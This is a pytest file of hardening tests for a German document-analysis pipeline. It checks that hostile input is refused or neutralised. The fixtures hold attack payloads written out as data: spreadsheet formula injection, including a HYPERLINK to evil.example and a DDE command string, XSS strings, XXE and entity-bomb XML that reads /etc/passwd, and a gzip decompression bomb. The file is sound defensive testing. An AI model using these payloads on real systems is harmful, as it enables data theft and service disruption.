"""The fault list of issue 14 (hardening), one test per fault, each on a fixture the project generates itself.

Every fault gets the behaviour the README's "Bad input and faults" table promises: a one-line error naming
the file and the problem, the rest of the batch goes on, nothing stored is lost. The whole file runs in
well under a minute (``pytest tests/test_faults.py``).
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from trends_fixtures import build_corpus

from pipeline.config import config_from_dict
from pipeline.store import CorpusStore

# -- 1, 2: hostile labels in the report ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_PUBLISHERS = (
    FORMULA,
    "@SUM(1+1)",
    "+49 30 1234 (Telefon)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "Verband $5{ bis $6",
    "<script>alert(1)</script> & <b>Verband</b> | Pipe",
)
DOLLAR_LABEL = "Verband $5{ bis $6"


def _hostile_project(tmp: Path) -> tuple[Path, Path, dict]:
    """The trends test corpus with hostile publishers (as a manifest could bring them) and a codebook and a
    model whose theme label has ``$`` in it."""
    store_path, model, _ = build_corpus(tmp)
    with CorpusStore(store_path) as store, store.transaction() as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM documents ORDER BY id")]
        for i, doc_id in enumerate(ids):
            pubs = [HOSTILE_PUBLISHERS[i % len(HOSTILE_PUBLISHERS)]] + (["-0.3"] if i % 4 == 0 else [])
            conn.execute("UPDATE documents SET publishers=? WHERE id=?", (json.dumps(pubs), doc_id))
    topics = pd.read_csv(model / "topics.csv")
    topics.loc[topics["theme"] == "ki", "theme_label"] = DOLLAR_LABEL
    topics.loc[topics["topic"] == 2, "label"] = "=1+2 <img src=x onerror=alert(1)>"
    topics.to_csv(model / "topics.csv", index=False)
    codebook = tmp / "codebook.toml"
    shipped = Path(__file__).resolve().parents[1] / "pipeline" / "themes" / "codebook.toml"
    codebook.write_text(
        shipped.read_text(encoding="utf-8").replace(
            'label = "KI und Automatisierung"', f'label = "{DOLLAR_LABEL}"'
        ),
        encoding="utf-8",
    )
    cfg = {"trends": {"groups": ["publisher"], "min_docs": 3, "bootstrap": 50},
           "themes": {"codebook": str(codebook)}, "report": {"workers": 1, "formats": ["png"]}}  # fmt: skip
    return store_path, model, cfg


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict]:
    return _hostile_project(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def hostile_report(hostile: tuple[Path, Path, dict], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report (tables and HTML, no plots) of the hostile project."""
    from pipeline.report import render

    store_path, model, raw = hostile
    cfg = config_from_dict({**raw, "report": {**raw["report"], "plots": False}})
    out = tmp_path_factory.mktemp("hostile-report") / "out"
    with CorpusStore(store_path) as store:
        render(store, model, cfg, out_dir=out)
    return out


def test_formulas_from_user_data_are_text_in_xlsx(hostile_report: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report / "trends.xlsx")
    values = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE_PUBLISHERS:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    values[cell.value] = cell
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    # the original text is kept (no apostrophe in the value); Excel's quote prefix marks it as text
    assert values[FORMULA].quotePrefix and values["@SUM(1+1)"].quotePrefix
    assert not values[DOLLAR_LABEL].quotePrefix
    numbers = [c.value for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert any(isinstance(v, float) for v in numbers)  # shares stay numbers


def test_formulas_from_user_data_are_neutralised_in_csv(hostile_report: Path) -> None:
    import csv

    with open(hostile_report / "tables" / "theme_trends.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    groups = {r["group"] for r in rows}
    assert "'" + FORMULA in groups and FORMULA not in groups
    assert {"'@SUM(1+1)", "'+49 30 1234 (Telefon)", "'-2+3+cmd|' /C calc'!A0", "'\t=1+1"} <= groups
    assert "-0.3" in groups and "'-0.3" not in groups  # a number is not a formula
    assert DOLLAR_LABEL in groups and "all" in groups
    assert all(not v.startswith(("=", "@", "+")) for r in rows for v in r.values())
    # the report reads its own tables back with the original labels
    from pipeline.trends.compare import read_table

    back = read_table(hostile_report / "tables" / "theme_trends.csv")
    assert FORMULA in set(back["group"]) and "'" + FORMULA not in set(back["group"])


def test_neutralised_cells_read_back_exactly() -> None:
    from pipeline.report.safe import neutralise, restore

    cells = ["=1+1", "'=1+1", "''=1+1", "@x", "+49 30", "-", "\r=x", "'", "'abc", "abc", "", "O'Brien",
             "-0.3", "+5", "-1e-5", "12,5%", "(ohne Angabe)", "Verband $5{ bis $6"]  # fmt: skip
    out = [neutralise(c) for c in cells]
    assert out[:7] == ["'=1+1", "''=1+1", "'" + "''=1+1", "'@x", "'+49 30", "'-", "'\r=x"]
    assert out[7:] == cells[7:]  # ordinary text and numbers are untouched
    assert [restore(v) for v in out] == cells


def test_formula_escaping_can_be_switched_off(hostile: tuple[Path, Path, dict], tmp_path: Path) -> None:
    from pipeline import trends

    store_path, _, raw = hostile
    cfg = config_from_dict({**raw, "report": {"escape_formulas": False}})
    with CorpusStore(store_path) as store:
        trends.run(store, None, cfg, out_dir=tmp_path)
    groups = set(pd.read_csv(tmp_path / "tables" / "theme_trends.csv", keep_default_na=False)["group"])
    assert FORMULA in groups


def test_markdown_tables_escape_html_and_pipes(hostile_report: Path) -> None:
    md = (hostile_report / "tables" / "theme_trends.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "<b>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;Verband&lt;/b&gt; \\| Pipe" in md
    tables = [block for block in md.split("\n\n") if block.startswith("| ")]
    for block in tables:
        widths = {line.replace("\\|", "").count("|") for line in block.splitlines()}
        assert len(widths) == 1, block


def test_html_report_keeps_injected_labels_inert(hostile_report: Path) -> None:
    html = (hostile_report / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html and "<img src=x" not in html and "<b>Verband" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_dollar_signs_in_labels_do_not_break_the_plots(hostile_report: Path, tmp_path: Path) -> None:
    """The figures whose text comes from user data: a theme's title (codebook label), the model's theme topic
    (its label) and the legend of the publishers (the report draws these same functions)."""
    from pipeline.report import figures
    from pipeline.trends.compare import read_table

    themes = read_table(hostile_report / "tables" / "theme_trends.csv")
    topics = read_table(hostile_report / "tables" / "topic_trends.csv")
    ki = themes[themes["theme"].isin(["ki", "interaktion"])]
    files = figures.theme_figures(ki, [("doc_share", "docs (%)")], tmp_path, "theme_", ["png", "svg"])
    files += figures.theme_figures(
        topics, [("share", "share (%)")], tmp_path, "model_theme_", ["svg"], unit="theme"
    )
    files += figures.small_multiples(ki, "doc_share", "docs (%)", "publisher", tmp_path / "by_publisher", ["svg"],
                                     title="Codebook themes by publisher")  # fmt: skip
    assert {f.name for f in files} >= {
        "theme_ki.png",
        "theme_ki.svg",
        "model_theme_ki.svg",
        "by_publisher.svg",
    }
    assert DOLLAR_LABEL in (tmp_path / "theme_ki.svg").read_text(encoding="utf-8")  # drawn as the text it is
    assert DOLLAR_LABEL in (tmp_path / "model_theme_ki.svg").read_text(encoding="utf-8")
    legend = (tmp_path / "by_publisher.svg").read_text(encoding="utf-8")
    assert DOLLAR_LABEL in legend and '>=HYPERLINK("http://evil.example/' in legend  # a legend entry


# -- 5: text files in other encodings ------------------------------------------------------------------------

GERMAN = (
    "Die Sozialwirtschaft und die Künstliche Intelligenz: Gute Arbeit für Pflegekräfte und Beratung für "
    "Klientinnen. Größere Träger beantworten die Frage nach der Mitbestimmung."
)


def test_text_files_in_utf16_and_utf32_are_decoded(tmp_path: Path, store_path: Path, runner) -> None:
    import random

    from pipeline.cli import cli

    encoded = {
        "utf8-bom.txt": GERMAN.encode("utf-8-sig"),
        "utf16-le-bom.txt": GERMAN.encode("utf-16"),  # Python writes the BOM, little-endian here
        "utf16-be-bom.txt": b"\xfe\xff" + GERMAN.encode("utf-16-be"),
        "utf16-le.txt": GERMAN.encode("utf-16-le"),  # no BOM: the NUL bytes tell
        "utf16-be.md": ("# Pflege digital\n\n" + GERMAN).encode("utf-16-be"),
        "utf32-bom.txt": GERMAN.encode("utf-32"),
        "utf32-be.txt": GERMAN.encode("utf-32-be"),
        "cp1252.txt": GERMAN.encode("cp1252"),
        "binaer.txt": random.Random(14).randbytes(6000),
    }
    raw = tmp_path / "raw"
    raw.mkdir()
    for name, data in encoded.items():
        (raw / name).write_bytes(data)
    res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(raw)])
    assert res.exit_code == 1, res.output
    problems = res.stderr.strip().splitlines()
    assert len(problems) == 1 and problems[0].startswith(f"{raw / 'binaer.txt'}: ")
    assert "not readable as text" in problems[0]
    with CorpusStore(store_path) as store:
        docs = {Path(d.source_path).name: d for d in store.iter_documents()}
        texts = {name: store.get_pages(d.id)[0].text for name, d in docs.items() if d.status == "extracted"}
    assert docs["binaer.txt"].status == "failed" and "not readable as text" in docs["binaer.txt"].error
    for name in encoded:
        if name != "binaer.txt":
            assert GERMAN in texts[name], (name, texts[name][:60])
    assert docs["utf16-le.txt"].meta["encoding"] == "utf-16-le"
    assert docs["utf32-bom.txt"].meta["encoding"] == "utf-32-le"
    assert docs["cp1252.txt"].meta["encoding"] == "cp1252"
    assert docs["utf16-be.md"].title == "Pflege digital"


# -- 6: JSON Lines that are too big ---------------------------------------------------------------------------


def _speech(i: int) -> bytes:
    return json.dumps({"id": f"R{i}", "text": f"Rede {i}: {GERMAN}", "date": "2019-05-02"}).encode() + b"\n"


def gzip_bomb(path: Path, inflated_mb: int) -> Path:
    """Two speeches, then one line whose text inflates to ``inflated_mb`` MB (gzip members of one compressed
    MB each: a few KB on disk per thousand MB), then a third speech."""
    import gzip

    member = gzip.compress(b"a" * (1 << 20), compresslevel=9, mtime=0)
    with open(path, "wb") as fh:
        fh.write(gzip.compress(_speech(1) + _speech(2) + b'{"id": "bomb", "text": "', mtime=0))
        for _ in range(inflated_mb):
            fh.write(member)
        fh.write(gzip.compress(b'"}\n' + _speech(3), mtime=0))
    return path


PEAK_RSS = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))  # the old reader died here, not the machine
from pipeline import ingest
from pipeline.config import IngestConfig
from pipeline.store import CorpusStore
with CorpusStore(sys.argv[1]) as store:
    result = ingest.run(store, sys.argv[2:], IngestConfig())
    ids = sorted(d.record_key or d.source_path for d in store.iter_documents())
peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps({"failed": result.failed, "ids": ids, "peak_mb": peak_mb}))
"""


def test_gzip_bomb_fails_fast_with_bounded_memory(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    bomb = gzip_bomb(tmp_path / "reden.jsonl.gz", inflated_mb=3000)
    assert bomb.stat().st_size < 4 << 20  # a 3 MB file that inflates to 3 GB
    other = tmp_path / "andere.jsonl"
    other.write_bytes(_speech(7))
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    proc = subprocess.run([sys.executable, "-c", PEAK_RSS, str(tmp_path / "c.db"), str(bomb), str(other)],
                          capture_output=True, text=True, env=env, timeout=120)  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["ids"] == ["R1", "R2", "R7"]  # the records before the bomb and the rest of the batch
    (where, problem), *rest = out["failed"]
    assert not rest and where == f"{bomb}:3" and "decompression bomb" in problem
    assert out["peak_mb"] < 600, out  # inflating the line would need 3,000 MB


def test_oversized_and_deeply_nested_lines_are_skipped(tmp_path: Path, store_path: Path, runner) -> None:
    import gzip
    import random

    from pipeline.cli import cli

    rng = random.Random(6)
    huge = json.dumps({"id": "riesig", "text": "".join(rng.choices("abcdefgh ", k=(1 << 20) + 10))}).encode()
    lines = [_speech(1), huge + b"\n", b"[" * 100_000 + b"\n", b'{"id": "latin1", "text": "Gr\xf6\xdfe"}\n',
             _speech(2)]  # fmt: skip
    (tmp_path / "reden.jsonl").write_bytes(b"".join(lines))
    (tmp_path / "reden2.jsonl.gz").write_bytes(gzip.compress(b"".join(lines).replace(b'"R', b'"G')))
    res = runner.invoke(cli, ["--store", str(store_path), "--set", "ingest.max_record_mb=1", "ingest",
                              str(tmp_path / "reden.jsonl"), str(tmp_path / "reden2.jsonl.gz")])  # fmt: skip
    assert res.exit_code == 1, res.output
    problems = sorted(res.stderr.strip().splitlines())
    assert len(problems) == 6, problems
    for name in ("reden.jsonl", "reden2.jsonl.gz"):
        mine = [p for p in problems if p.startswith(f"{tmp_path / name}:")]
        assert "longer than 1 MB (ingest.max_record_mb)" in mine[0] and mine[0].split(": ")[0].endswith(":2")
        assert "nested too deeply" in mine[1] and mine[1].split(": ")[0].endswith(":3")
        assert "not UTF-8" in mine[2] and mine[2].split(": ")[0].endswith(":4")
    with CorpusStore(store_path) as store:
        keys = sorted(d.record_key for d in store.iter_documents())
    assert keys == ["G1", "G2", "R1", "R2"]  # the records before and after the bad lines went in


# -- XML attacks and links to system files ------------------------------------------------------------------

SPEECH = '<text person="Norbert Lammert" titel="Rede am 9. November 2007" datum="2007-11-09"><rohtext>{}</rohtext></text>'
XML_ATTACKS = {
    "bombe.xml": ("declares entities", '<!DOCTYPE collection [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><collection>' + SPEECH.format("&c;") + "</collection>"),
    "xxe.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY x SYSTEM "file:///etc/passwd">]><collection>'
                + SPEECH.format("Hallo &x;") + "</collection>"),
    "parameter.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
                      "<collection>" + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
    "dtd.xml": ("external DTD", '<!DOCTYPE collection SYSTEM "http://evil.example/x.dtd"><collection>'
                + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
    "xinclude.xml": ("XInclude", '<collection xmlns:xi="http://www.w3.org/2001/XInclude">'
                     + SPEECH.format('Hallo <xi:include href="/etc/passwd" parse="text"/>') + "</collection>"),
}  # fmt: skip


def test_xml_attacks_are_refused_with_the_reason_and_leak_nothing(
    tmp_path: Path, store_path: Path, runner
) -> None:
    import os

    from pipeline.cli import cli

    raw = tmp_path / "raw"
    raw.mkdir()
    for name, (_, body) in XML_ATTACKS.items():
        (raw / name).write_text('<?xml version="1.0" encoding="UTF-8"?>\n' + body, encoding="utf-8")
    good = (
        "<!DOCTYPE collection [<!ELEMENT collection (text+)>]><collection>"
        + SPEECH.format(GERMAN)
        + "</collection>"
    )
    (raw / "gut.xml").write_text(good, encoding="utf-8")
    os.symlink("/etc/passwd", raw / "passwd.txt")  # a link to a system file under a supported name
    os.symlink("/etc/hosts", tmp_path / "hosts")
    os.symlink("/dev/zero", tmp_path / "null.txt")
    args = [
        "--store",
        str(store_path),
        "ingest",
        str(raw),
        str(tmp_path / "hosts"),
        str(tmp_path / "null.txt"),
    ]
    res = runner.invoke(cli, args)
    assert res.exit_code == 1, res.output
    lines = res.stderr.strip().splitlines()
    assert len(lines) == len(XML_ATTACKS) + 3, lines
    for name, (reason, _) in XML_ATTACKS.items():
        line = next(ln for ln in lines if ln.startswith(f"{raw / name}: "))
        assert reason in line and "refused" in line, line
    link = next(ln for ln in lines if ln.startswith(f"{tmp_path / 'hosts'}: "))
    assert "symbolic link to /etc/hosts" in link and "unsupported format ''" not in link
    assert "symbolic link to /etc/passwd" in next(
        ln for ln in lines if ln.startswith(f"{raw / 'passwd.txt'}: ")
    )
    assert "not a regular file" in next(ln for ln in lines if ln.startswith(f"{tmp_path / 'null.txt'}: "))
    with CorpusStore(store_path) as store:
        docs = list(store.iter_documents())
        texts = [p.text for d in docs for p in store.get_pages(d.id)]
    assert [Path(d.source_path).name for d in docs if d.status == "extracted"] == ["gut.xml"]
    assert not any("root:" in t or "aaaaaaaaaa" in t for t in texts)


# -- 3: workers die with their parent ---------------------------------------------------------------------------


def _slow_pdfs(folder: Path, n: int) -> list[Path]:
    """PDFs whose page keeps pdfium busy for seconds (64 MB of save/restore operators)."""
    from pdf_fixtures import make_bomb_pdf

    folder.mkdir()
    first = make_bomb_pdf(folder / "langsam-0.pdf", megabytes=64, op=b"q Q\n")
    paths = [first]
    for i in range(1, n):  # the same page, other bytes (a comment), so that each is its own document
        paths.append(folder / f"langsam-{i}.pdf")
        paths[-1].write_bytes(first.read_bytes() + b"%" + str(i).encode() + b"\n")
    return paths


@pytest.mark.parametrize("stage", ["extract", "ingest"])
def test_workers_die_when_the_parent_is_killed(stage: str, tmp_path: Path) -> None:
    import datetime as dt
    import os
    import signal
    import subprocess
    import sys
    import time

    import psutil

    from pipeline.artefacts import Document

    pdfs = _slow_pdfs(tmp_path / "raw", 4)
    store_path = tmp_path / "corpus.db"
    if stage == "extract":  # stored as ingest leaves them (ingest would probe the slow pages first)
        with CorpusStore(store_path) as store, store.transaction():
            store.insert_documents(Document(id=f"{i:016x}", source_path=str(p), format="pdf", status="ingested",
                                            title=p.stem, date=str(dt.date.today().year))
                                   for i, p in enumerate(pdfs))  # fmt: skip
        args = ["--store", str(store_path), "extract", "--workers", "2", "--timeout", "600"]
    else:
        args = [
            "--store",
            str(store_path),
            "--set",
            "ingest.probe_workers=2",
            "ingest",
            str(tmp_path / "raw"),
        ]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    proc = subprocess.Popen([sys.executable, "-m", "pipeline", *args], env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)  # fmt: skip
    parent = psutil.Process(proc.pid)
    workers: list[psutil.Process] = []
    wanted = 2 if stage == "extract" else 1  # the probe takes small PDFs in batches: one worker here
    try:
        deadline = time.monotonic() + 60
        while len(workers) < wanted and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.05)
            workers = parent.children(recursive=True)
        assert len(workers) >= wanted, "the workers did not start"
        time.sleep(0.5)  # the workers are busy with a page
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(10)
        _, alive = psutil.wait_procs(workers, timeout=5)
        assert alive == [], [(p.pid, p.ppid(), p.status()) for p in alive]
    finally:
        for p in workers:
            if p.is_running():
                p.kill()
        if proc.poll() is None:
            proc.kill()


# -- 4: store faults ------------------------------------------------------------------------------------------


def _texts(folder: Path, n: int, start: int = 0) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(start, start + n):
        (folder / f"papier-{i:03d}.txt").write_text(f"Positionspapier {i}. {GERMAN * 8}", encoding="utf-8")
    return folder


def _cli_as_user(*args: str, env: dict | None = None) -> tuple[int, str, str]:
    """``themenradar ARGS`` in a subprocess in which file permissions hold (as root: without the capabilities
    that override them, CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH)."""
    import ctypes
    import os
    import subprocess
    import sys

    def drop_override() -> None:
        if os.geteuid() == 0:
            libc = ctypes.CDLL(None, use_errno=True)
            for cap in (1, 2):
                if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP: gone after exec
                    raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1]), **(env or {})}
    proc = subprocess.run([sys.executable, "-m", "pipeline", *args], capture_output=True, text=True, env=env,
                          preexec_fn=drop_override, timeout=120)  # fmt: skip
    return proc.returncode, proc.stdout, proc.stderr


def _one_error_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in stderr, stderr[-3000:]
    return lines[0]


def test_read_only_store_reads_and_refuses_writes(tmp_path: Path) -> None:
    import os

    folder = tmp_path / "projekt"
    folder.mkdir()
    store_path, _, _ = build_corpus(folder)
    shm = store_path.with_name("corpus.db-shm")
    new = _texts(tmp_path / "neu", 1)
    os.chmod(store_path, 0o444)  # the store file is read-only
    rc, out, err = _cli_as_user("--store", str(store_path), "corpus", "stats")
    assert rc == 0 and out.startswith("47 documents"), err
    rc, out, err = _cli_as_user("--store", str(store_path), "ingest", str(new))
    assert rc == 1 and "corpus store is read-only (corpus.db" in _one_error_line(err)
    assert shm.exists() and not shm.stat().st_mode & 0o222  # SQLite left a read-only -shm behind
    os.chmod(store_path, 0o644)  # writable again: the leftover -shm must not keep writes failing
    rc, out, err = _cli_as_user("--store", str(store_path), "ingest", str(new))
    assert rc == 0 and "1 added" in out, err
    os.chmod(folder, 0o555)  # a read-only folder (as on a read-only mount)
    try:
        rc, out, err = _cli_as_user("--store", str(store_path), "corpus", "list", "--limit", "0")
        assert rc == 0 and len(out.splitlines()) == 49, err
        rc, out, err = _cli_as_user("--store", str(store_path), "themes", "--out", str(tmp_path / "out"))
        assert rc == 0 and (tmp_path / "out" / "tables" / "theme_trends.csv").is_file(), err
        rc, out, err = _cli_as_user(
            "--store", str(store_path), "ingest", str(_texts(tmp_path / "neu2", 1, start=1))
        )
        assert rc == 1 and "read-only" in _one_error_line(err) and "projekt" in err
    finally:
        os.chmod(folder, 0o755)
    with CorpusStore(store_path) as store:
        assert store.count_documents() == 48 and store.check() == []


LOCK_HOLDER = """
import sqlite3, sys, time
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("BEGIN IMMEDIATE")
print("locked", flush=True)
time.sleep(120)
"""


def test_busy_store_waits_then_names_the_holder(
    tmp_path: Path, store_path: Path, runner, monkeypatch
) -> None:
    import subprocess
    import sys

    from pipeline.cli import cli

    CorpusStore(store_path).close()
    holder = subprocess.Popen([sys.executable, "-c", LOCK_HOLDER, str(store_path)], stdout=subprocess.PIPE,
                              text=True)  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == "locked"
        monkeypatch.setenv("THEMENRADAR_STORE_TIMEOUT", "0.5")
        res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(_texts(tmp_path / "raw", 2))])
        assert res.exit_code == 1
        line = _one_error_line(res.stderr)
        assert "corpus store is locked by another process (pid " in line and f"pid {holder.pid}:" in line
        assert "waited 0.5 s" in line
    finally:
        holder.kill()
        holder.wait()
    res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(tmp_path / "raw")])
    assert res.exit_code == 0 and "2 added" in res.output
    monkeypatch.setenv("THEMENRADAR_STORE_TIMEOUT", "soon")
    res = runner.invoke(cli, ["--store", str(store_path), "corpus", "stats"])
    assert res.exit_code == 1 and "THEMENRADAR_STORE_TIMEOUT='soon'" in _one_error_line(res.stderr)


def test_full_disk_says_so_and_keeps_the_committed_state(tmp_path: Path, store_path: Path, runner,
                                                         monkeypatch) -> None:  # fmt: skip
    from pipeline.cli import cli
    from pipeline.cli._app import AppContext

    res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(_texts(tmp_path / "eins", 5))])
    assert res.exit_code == 0
    open_store = AppContext.open_store

    def nearly_full(self: AppContext, *, create: bool = True) -> CorpusStore:
        store = open_store(self, create=create)
        pages = store.conn.execute("PRAGMA page_count").fetchone()[0]
        store.conn.execute(f"PRAGMA max_page_count = {pages + 2}")  # SQLITE_FULL after two more pages
        return store

    monkeypatch.setattr(AppContext, "open_store", nearly_full)
    res = runner.invoke(
        cli, ["--store", str(store_path), "ingest", str(_texts(tmp_path / "zwei", 60, start=5))]
    )
    assert res.exit_code == 1
    line = _one_error_line(res.stderr)
    assert line.startswith(f"Error: {store_path}: disk full") and "last committed state is intact" in line
    monkeypatch.undo()
    with CorpusStore(store_path) as store:
        assert store.count_documents() == 5 and store.check() == []
    res = runner.invoke(cli, ["--store", str(store_path), "ingest", str(tmp_path / "zwei")])
    assert res.exit_code == 0 and "60 added" in res.output  # space again: the rerun completes it


def test_damaged_store_is_detected_and_named(tmp_path: Path, store_path: Path, runner) -> None:
    from pipeline.cli import cli

    assert (
        runner.invoke(
            cli, ["--store", str(store_path), "ingest", str(_texts(tmp_path / "raw", 200))]
        ).exit_code
        == 0
    )
    res = runner.invoke(cli, ["--store", str(store_path), "corpus", "check"])
    assert res.exit_code == 0 and res.output.strip() == f"{store_path}: ok (no damage found)"
    with CorpusStore(store_path) as store:  # the documents table's root page and two pages in the middle
        root = store.conn.execute("SELECT rootpage FROM sqlite_master WHERE name='documents'").fetchone()[0]
        size = store.conn.execute("PRAGMA page_size").fetchone()[0]
    data = bytearray(store_path.read_bytes())  # WAL checkpointed on close: everything is in the file
    middle = len(data) // size // 2
    for page in (root, middle, middle + 1):  # 1-based page numbers
        data[(page - 1) * size : page * size] = b"\xab" * size
    store_path.write_bytes(bytes(data))
    res = runner.invoke(cli, ["--store", str(store_path), "corpus", "check"])
    assert res.exit_code == 1 and ("page" in res.stdout or "malformed" in res.stdout)  # SQLite's findings
    assert "corpus store is damaged" in _one_error_line(res.stderr)
    res = runner.invoke(cli, ["--store", str(store_path), "corpus", "stats"])
    assert res.exit_code == 1 and "corpus store is damaged" in _one_error_line(res.stderr)
    res = runner.invoke(cli, ["--store", str(store_path), "corpus", "check", "--json"])
    assert res.exit_code == 1 and json.loads(res.stdout)["ok"] is False
